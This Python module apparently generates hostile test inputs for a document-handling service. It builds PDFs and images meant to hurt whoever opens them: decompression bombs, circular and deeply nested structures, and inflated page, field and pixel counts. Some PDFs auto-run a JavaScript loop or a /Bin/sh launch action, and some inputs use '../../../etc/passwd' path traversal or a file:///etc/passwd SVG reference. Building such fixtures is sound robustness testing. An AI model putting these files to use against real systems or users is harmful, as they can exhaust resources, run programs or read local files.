"""PDFs and pictures made to hurt whoever reads them: small to send, large to open."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from functools import cache

MARK = b"ceframework-form exemption 1 VAR-2026-001"
_MILLION = 1_000_000


# PDF


def pdf(objects: Sequence[bytes], keywords: bytes = MARK, prev: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    information = b"<< /Keywords (" + keywords + b") >>"
    for number, body in enumerate((*objects, information), 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, count = len(out), len(objects) + 2
    out += b"xref\n0 %d\n0000000000 65535 f \n" % count
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R /Info %d 0 R %b >>\n" % (count, count - 1, prev)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _stream(data: bytes, more: bytes = b"") -> bytes:
    small = _squeezed(data)
    head = b"<< /Length %d /Filter /FlateDecode %b >>" % (len(small), more)
    return head + b"\nstream\n" + small + b"\nendstream"


def _squeezed(data: bytes) -> bytes:
    return zlib.compress(data, 9)


def _bomb(megabytes: int, part: bytes = b" ") -> bytes:
    """So many megabytes of the same, squeezed into a thousandth."""
    squeeze = zlib.compressobj(9)
    block = part * (_MILLION // len(part))
    return b"".join(squeeze.compress(block) for _ in range(megabytes)) + squeeze.flush()


_FORM = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] %b >>"
_FIELD = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (title) /Rect [0 0 9 9] /P 3 0 R %b >>"


@cache
def forms() -> dict[str, bytes]:
    """PDFs that go in circles, nest, multiply, swell, or want to run something."""
    return {"plain": _form(), **_endless(), **_many(), **_large(), **_sly()}


def _form(
    *more: bytes,
    top: bytes = _FORM,
    pages: bytes = _PAGES,
    page: bytes = _PAGE % b"",
    field: bytes = _FIELD % b"/V (x)",
    keywords: bytes = MARK,
    prev: bytes = b"",
) -> bytes:
    """A form of one page and one field, numbered to 4, and `more` objects from 5 on."""
    return pdf([top, pages, page, field, *more], keywords, prev)


def _endless() -> dict[str, bytes]:
    """Those that go in circles, and those in which each part holds another."""
    start = _form().rindex(b"xref\n0")
    return {
        "pages in a circle": _form(pages=b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"),
        "pages are their own parents": _form(
            pages=_PAGES.replace(b"/Count", b"/Parent 2 0 R /Count")
        ),
        "tables in a circle": _form(prev=b"/Prev %d" % start),
        "a field is its own parent": _form(field=_FIELD % b"/Parent 4 0 R /Kids [4 0 R]"),
        "nested arrays": _form(field=_FIELD % (b"/V " + b"[" * 200_000)),
        "nested dictionaries": _form(field=_FIELD % (b"/DV " + b"<</A " * 100_000)),
        "a picture that draws itself again and again": _form(
            _stream(b"/X Do " * 9),
            *(_drawing(number) for number in range(6, 30)),
            page=_PAGE % b"/Contents 5 0 R /Resources << /XObject << /X 6 0 R >> >>",
        ),
    }


def _many() -> dict[str, bytes]:
    """Those with very many pages and fields."""
    kids, fields = b"3 0 R " * _MILLION, b"4 0 R " * 100_000
    answers = b" ".join(b"%d 0 R" % number for number in range(5, 505))
    return {
        "a million pages": _form(pages=b"<< /Type /Pages /Count 1000000 /Kids [%b] >>" % kids),
        "two thousand million pages": _form(
            pages=_PAGES.replace(b"/Count 1", b"/Count 2147483647")
        ),
        "a hundred thousand fields": _form(
            page=(_PAGE % b"").replace(b"[4 0 R]", b"[%b]" % fields)
        ),
        "five hundred long answers": _form(
            *(_FIELD.replace(b"title", b"t%d" % number) % b"/V 4 0 R" for number in range(500)),
            pages=_PAGES.replace(b"/Count 1", b"/Count 60").replace(b"3 0 R", b"3 0 R " * 60),
            page=_PAGE.replace(b"4 0 R", answers) % b"",
            field=_stream(b"x" * 190_000),
        ),
    }


def _large() -> dict[str, bytes]:
    """Those that are long, or become so when they are opened."""
    run = b"<< /Length 2000 /Filter [/RunLengthDecode] >>\nstream\n%b\nendstream" % (
        b"\x81x" * 1000
    )
    follows = _FIELD % b"/V 5 0 R"
    return {
        "a long answer": _form(field=_FIELD % (b"/V (" + b"x" * 5 * _MILLION + b")")),
        "long keywords": _form(keywords=b"x" * 5 * _MILLION),
        "a page that swells": _form(_swelling(200, b"0 0 m "), page=_PAGE % b"/Contents 5 0 R"),
        "squeezed twice": _form(_twice(200), field=follows),
        "squeezed in another way": _form(run, field=follows),
        "an answer that swells": _form(_swelling(200, b"x"), field=follows),
    }


def _sly() -> dict[str, bytes]:
    """Those that want to run something, or to be taken for another file."""
    script = b"<< /S /JavaScript /JS (while(true){app.launchURL\\('http://127.0.0.1:9'\\);}) >>"
    at_once = _FORM.replace(b"/Pages", b"/OpenAction 5 0 R /Pages")
    name = b"ceframework-form exemption 1 "
    return {
        "runs something": _form(
            script, top=at_once, field=_FIELD % b"/V (x) /AA << /K 5 0 R /C 5 0 R >>"
        ),
        "starts a program": _form(b"<< /S /Launch /F << /F (/bin/sh) >> >>", top=at_once),
        "a name that leads out": _form(keywords=name + b"../../../etc/passwd"),
        "a name that turns round": _form(keywords=name + b"VAR\\342\\200\\256-2026"),
    }


def _drawing(number: int) -> bytes:
    """One that draws the next nine times."""
    more = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
    )
    return _stream(b"/X Do " * 9, more % (number + 1))


def _twice(megabytes: int) -> bytes:
    small = _squeezed(_bomb(megabytes, b"x"))
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>" % len(small)
    return head + b"\nstream\n" + small + b"\nendstream"


def _swelling(megabytes: int, part: bytes) -> bytes:
    small = _bomb(megabytes, part)
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\nendstream" % (len(small), small)


# Pictures


def png(width: int, height: int, *parts: tuple[bytes, bytes], data: bytes | None = None) -> bytes:
    """A PNG that says it is of this size, with other parts before its `data` (squeezed)."""
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    rest = _squeezed(b"") if data is None else data
    found = (_part(b"IHDR", head), *(_part(*part) for part in parts), _part(b"IDAT", rest))
    return b"\x89PNG\r\n\x1a\n" + b"".join(found) + _part(b"IEND", b"")


def _part(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def pictures() -> dict[str, bytes]:
    """Pictures that say they are huge, and some that are."""
    plain = png(4, 4, data=_squeezed((b"\0" + b"\x20\x60\xa0\xff" * 4) * 4))
    jpeg = b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    text = b"Comment\0\0" + _bomb(200)
    return {
        "plain": plain,
        "ten thousand million dots": png(100_000, 100_000),
        "wider than any": png(2**31 - 1, 1),
        "no width": png(0, 5),
        "forty million dots": png(6_300, 6_300, data=_bomb(160, b"\0")),
        "sixteen million dots": png(4_000, 4_000, data=_bomb(65, b"\0")),
        "a line of dots": png(3_999_999, 1, data=_bomb(17, b"\0")),
        "a column of dots": png(1, 3_999_999, data=_bomb(21, b"\0")),
        "words that swell": png(4, 4, (b"zTXt", text), data=_squeezed(b"\0" * 99)),
        "colours that swell": png(4, 4, (b"iCCP", text), data=_squeezed(b"\0" * 99)),
        "a hundred thousand words": png(4, 4, *((b"tEXt", b"a\0b"),) * 100_000),
        "a million pictures": png(4, 4, (b"acTL", struct.pack(">II", _MILLION, 0))),
        "a JPEG of 65,535 by 65,535": jpeg + b"\xff\xd9",
        "a GIF": b"GIF89a\xff\xff\xff\xff\x80\0\0" + b"\0" * 99,
        "a drawing": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/>',
        "a PostScript program": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
    }
